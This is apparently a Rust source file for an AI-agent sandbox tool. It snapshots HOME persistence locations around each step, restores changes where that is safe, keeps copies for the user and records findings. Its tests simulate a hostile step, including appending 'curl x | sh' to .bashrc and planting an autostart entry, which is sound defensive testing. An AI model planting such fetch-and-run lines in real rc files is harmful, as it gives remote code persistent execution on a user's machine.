//! HOME's persistence places around every step (issue 36; the places and the comparison are
//! `pawl_core::home`): a manifest before the step, another after it (all the step's processes
//! gone), and every change the step could have made there — in a place the sandbox did not bind
//! read-only for it — is put back from the manifest where that is safe, kept aside for the user,
//! and recorded (`home_changed`): a finding that keeps the run from SHIP. This holds with any
//! sandbox or none (docs/sandbox.md, "HOME").

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};

use pawl_core::EventKind;
use pawl_core::home::{self, Change, Entry, Manifest, PERSISTENCE_IN_HOME};
use pawl_store::Store;
use serde_json::json;

/// Files up to this size are kept in the manifest (compared by content, put back after a
/// step); larger ones (a toolchain's binaries) are compared by their inode and change time.
const KEPT_BYTES: u64 = 1 << 20;
/// At most this many entries of one place are read (a place larger than that is read that far).
const ENTRIES_PER_PLACE: usize = 10_000;

/// HOME's persistence places as one run's steps see them (one watch per run, shared by its
/// workers: [`Shared`]).
pub struct HomeWatch {
    home: PathBuf,
    /// The paths the steps' sandbox binds read-only where they exist (resolved).
    bound: Vec<PathBuf>,
    /// Where what a step left is kept for the user: `.pawl/logs/<run>/home/`.
    logs: PathBuf,
    before: Option<(Manifest, Vec<&'static str>)>,
    /// The steps running now (a parallel run's workers share one watch): the manifest is taken
    /// when the first starts and kept until the last has ended, so a step never takes another
    /// step's change for the user's state (and puts it back).
    active: usize,
}

impl HomeWatch {
    /// The watch of HOME (`None` when HOME is not set) for steps whose sandbox binds `bound`
    /// read-only; what a step leaves is kept under `logs`.
    pub fn new(bound: Vec<PathBuf>, logs: PathBuf) -> Option<HomeWatch> {
        let home = std::env::var_os("HOME")
            .filter(|h| !h.is_empty())
            .map(PathBuf::from)
            .filter(|h| h.is_absolute())?;
        Some(HomeWatch {
            home: std::fs::canonicalize(&home).unwrap_or(home),
            bound,
            logs,
            before: None,
            active: 0,
        })
    }

    /// Before a step: the manifest, and the places the step cannot change (bound read-only:
    /// they exist now and the sandbox binds them) — unless another step runs now, whose
    /// manifest holds.
    pub fn before_step(&mut self) {
        self.active += 1;
        if self.before.is_some() {
            return;
        }
        let contained = PERSISTENCE_IN_HOME
            .iter()
            .map(|(p, _)| *p)
            .filter(|p| {
                let path = self.home.join(p);
                std::fs::symlink_metadata(&path).is_ok()
                    && self
                        .bound
                        .contains(&std::fs::canonicalize(&path).unwrap_or(path))
            })
            .collect();
        self.before = Some((take(&self.home), contained));
    }

    /// After a step: what it changed in the places it could change, put back, kept and
    /// recorded. Returns the findings.
    pub fn after_step(&mut self, store: &mut Store, run_id: &str) -> Vec<String> {
        self.active = self.active.saturating_sub(1);
        let Some((before, contained)) = (if self.active == 0 {
            self.before.take()
        } else {
            self.before.clone()
        }) else {
            return Vec::new();
        };
        let after = take(&self.home);
        let all = home::changes(&before, &after, |rel| {
            home::place_of(rel).is_some_and(|(place, _)| !contained.contains(&place))
        });
        if all.is_empty() {
            return Vec::new();
        }
        let kept_dir = self.logs.join(run_id).join("home");
        let mut kept: BTreeMap<&str, PathBuf> = BTreeMap::new();
        for (rel, change) in &all {
            if *change != Change::Removed
                && let Some(Entry::File {
                    content: Some(bytes),
                    ..
                }) = after.get(rel)
            {
                let to = kept_dir.join(rel);
                if to
                    .parent()
                    .is_some_and(|d| std::fs::create_dir_all(d).is_ok())
                    && std::fs::write(&to, bytes).is_ok()
                {
                    kept.insert(rel, to);
                }
            }
        }
        let mut restored: BTreeMap<&str, bool> = BTreeMap::new();
        for (rel, change) in &all {
            restored.insert(rel, self.restore(rel, *change, before.get(rel)));
        }
        let mut findings = Vec::new();
        for (rel, change) in home::named(&all) {
            // Put back only when every row at or above it was (a made directory removed whole).
            let done = restored.iter().all(|(r, ok)| {
                *ok || !(*r == rel
                    || rel.strip_prefix(*r).is_some_and(|t| t.starts_with('/'))
                    || r.strip_prefix(rel.as_str())
                        .is_some_and(|t| t.starts_with('/')))
            });
            let kept_at = kept.get(rel.as_str()).map(|p| p.display().to_string());
            let finding = home::finding(&rel, change, done, kept_at.as_deref());
            let _ = store.append_event(
                Some(run_id),
                EventKind::HomeChanged,
                json!({"path": format!("~/{rel}"), "change": change.as_str(),
                       "why": home::place_of(&rel).map(|(_, w)| w.says()),
                       "restored": done, "kept": kept_at, "finding": finding}),
            );
            findings.push(finding);
        }
        findings
    }

    /// Puts `rel` back as `was` after `change`, where that is safe; whether it is as it was.
    fn restore(&self, rel: &str, change: Change, was: Option<&Entry>) -> bool {
        let path = self.home.join(rel);
        // What the step made inside a directory it made went with that directory.
        let gone = change == Change::Created && std::fs::symlink_metadata(&path).is_err();
        gone || (self.safe(rel) && put_back(&path, change, was))
    }

    /// Whether every directory from HOME down to `rel`'s parent is a directory, not a link: pawl
    /// writes there with the user's full rights, so a step that swapped one for a link to
    /// elsewhere gets nothing written through it.
    fn safe(&self, rel: &str) -> bool {
        let mut at = self.home.clone();
        let parts: Vec<&str> = rel.split('/').collect();
        for part in &parts[..parts.len().saturating_sub(1)] {
            at.push(part);
            match std::fs::symlink_metadata(&at) {
                Ok(m) if m.is_dir() => {}
                _ => return false,
            }
        }
        true
    }
}

/// One run's watch, shared by the loop and a parallel run's workers.
pub type Shared = std::sync::Arc<std::sync::Mutex<Option<HomeWatch>>>;

/// The watch of a run whose steps' sandbox binds `bound` read-only ([`HomeWatch::new`]).
pub fn shared(bound: Vec<PathBuf>, logs: PathBuf) -> Shared {
    std::sync::Arc::new(std::sync::Mutex::new(HomeWatch::new(bound, logs)))
}

/// The manifest of HOME's persistence places now.
pub fn take(home: &Path) -> Manifest {
    let mut m = Manifest::new();
    for (rel, _) in PERSISTENCE_IN_HOME {
        let mut count = 0;
        walk(&home.join(rel), rel, &mut m, &mut count);
    }
    m
}

fn walk(path: &Path, rel: &str, m: &mut Manifest, count: &mut usize) {
    if *count >= ENTRIES_PER_PLACE {
        return;
    }
    let Some(entry) = entry_of(path, false) else {
        return;
    };
    *count += 1;
    let dir = matches!(entry, Entry::Dir { .. });
    m.insert(rel.to_owned(), entry);
    if dir {
        let mut names: Vec<String> = std::fs::read_dir(path)
            .into_iter()
            .flatten()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        for name in names {
            walk(&path.join(&name), &format!("{rel}/{name}"), m, count);
        }
    }
}

/// The entry at `path` (`follow`: what a link points to).
fn entry_of(path: &Path, follow: bool) -> Option<Entry> {
    let meta = if follow {
        std::fs::metadata(path)
    } else {
        std::fs::symlink_metadata(path)
    }
    .ok()?;
    let mode = meta.permissions().mode() & 0o7777;
    let t = meta.file_type();
    Some(if t.is_symlink() {
        Entry::Link {
            target: std::fs::read_link(path)
                .map(|t| t.display().to_string())
                .unwrap_or_default(),
            points_to: entry_of(path, true)
                .filter(|e| matches!(e, Entry::File { .. }))
                .map(Box::new),
        }
    } else if t.is_file() {
        let len = meta.len();
        Entry::File {
            mode,
            len,
            content: (len <= KEPT_BYTES)
                .then(|| std::fs::read(path).ok())
                .flatten(),
            stamp: (meta.ino(), meta.ctime(), meta.ctime_nsec()),
        }
    } else if t.is_dir() {
        Entry::Dir { mode }
    } else {
        Entry::Other
    })
}

/// Puts `path` back as `was` (`None`: it did not exist) after `change`; whether it could.
fn put_back(path: &Path, change: Change, was: Option<&Entry>) -> bool {
    let remove = |p: &Path| match std::fs::symlink_metadata(p) {
        Err(_) => true,
        Ok(m) if m.is_dir() => std::fs::remove_dir_all(p).is_ok(),
        Ok(_) => std::fs::remove_file(p).is_ok(),
    };
    match (change, was) {
        (Change::Created, _) | (_, None) => remove(path),
        (
            _,
            Some(Entry::File {
                mode,
                content: Some(bytes),
                ..
            }),
        ) => {
            // A new file beside it, renamed over whatever is there now.
            let Some(name) = path.file_name() else {
                return false;
            };
            let tmp = path.with_file_name(format!(".{}.pawl-restore", name.to_string_lossy()));
            let is_dir = std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
            (!is_dir || remove(path))
                && remove(&tmp)
                && std::fs::write(&tmp, bytes).is_ok()
                && std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(*mode)).is_ok()
                && std::fs::rename(&tmp, path).is_ok()
        }
        (_, Some(Entry::Dir { mode })) => {
            let is_dir = std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
            (is_dir || (remove(path) && std::fs::create_dir(path).is_ok()))
                && std::fs::set_permissions(path, std::fs::Permissions::from_mode(*mode)).is_ok()
        }
        (_, Some(Entry::Link { target, points_to })) => {
            // The link itself can be put back; what it points to changed in place cannot.
            let same = matches!(entry_of(path, false), Some(Entry::Link { target: t, .. }) if &t == target);
            if same {
                return entry_of(path, true)
                    .filter(|e| matches!(e, Entry::File { .. }))
                    .map(Box::new)
                    == *points_to;
            }
            remove(path) && std::os::unix::fs::symlink(target, path).is_ok()
        }
        // A large file or a special one: not kept, so not put back.
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_changed_made_and_removed_place_is_put_back_and_a_link_swapped_in_is_not_written_through() {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        let elsewhere = dir.path().join("elsewhere");
        std::fs::create_dir_all(home.join(".config/git")).unwrap();
        std::fs::create_dir_all(&elsewhere).unwrap();
        std::fs::write(home.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
        std::fs::write(home.join(".gitconfig"), "[user]\n").unwrap();
        std::fs::write(home.join(".config/git/ignore"), "*.swp\n").unwrap();
        let before = take(&home);
        // The step: appends to the rc file, removes the global config, makes an autostart
        // entry, and swaps `~/.config` for a link to elsewhere holding a git config.
        std::fs::write(home.join(".bashrc"), "alias ll='ls -l'\ncurl x | sh\n").unwrap();
        std::fs::remove_file(home.join(".gitconfig")).unwrap();
        std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
        std::fs::write(
            home.join(".config/autostart/x.desktop"),
            "[Desktop Entry]\n",
        )
        .unwrap();
        let after = take(&home);
        let all = home::changes(&before, &after, |_| true);
        let w = HomeWatch {
            home: home.clone(),
            bound: Vec::new(),
            logs: dir.path().join("logs"),
            before: None,
            active: 0,
        };
        for (rel, change) in &all {
            assert!(w.restore(rel, *change, before.get(rel)), "{rel}");
        }
        assert!(
            home::changes(&before, &take(&home), |_| true).is_empty(),
            "every place as it was"
        );
        assert!(!home.join(".config/autostart").exists());
        // A directory on the way swapped for a link: nothing is written through it.
        std::fs::rename(home.join(".config"), dir.path().join("config-moved")).unwrap();
        std::os::unix::fs::symlink(&elsewhere, home.join(".config")).unwrap();
        assert!(!w.safe(".config/git/ignore"));
    }

    /// Two steps at once (a parallel run's workers): the manifest is the one taken when the
    /// first started, so the second step's end never puts back what the first changed as if
    /// it were the user's.
    #[test]
    fn steps_running_together_share_the_manifest_of_the_first_start() {
        let dir = tempfile::tempdir().expect("tempdir");
        let home = dir.path().join("home");
        std::fs::create_dir_all(&home).expect("home");
        std::fs::write(home.join(".bashrc"), "ok\n").expect("rc");
        let mut store = Store::open(&dir.path().join("pawl.db")).expect("store");
        let run = store
            .create_run(&pawl_store::NewRun {
                goal: "g".into(),
                driver: pawl_core::model::Driver::Headless,
                mode: None,
                settings: Default::default(),
                branch: None,
                pre_run_commit: None,
            })
            .expect("run");
        let mut w = HomeWatch {
            home: home.clone(),
            bound: Vec::new(),
            logs: dir.path().join("logs"),
            before: None,
            active: 0,
        };
        w.before_step();
        // The first step writes the rc file before the second starts.
        std::fs::write(home.join(".bashrc"), "ok\nevil\n").expect("rc");
        w.before_step();
        let found = w.after_step(&mut store, &run.id);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].contains("`~/.bashrc`") && found[0].contains("restored"));
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).expect("rc"),
            "ok\n"
        );
        assert!(w.after_step(&mut store, &run.id).is_empty());
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).expect("rc"),
            "ok\n",
            "the second end leaves the user's file as it was"
        );
        assert!(w.before.is_none());
    }
}
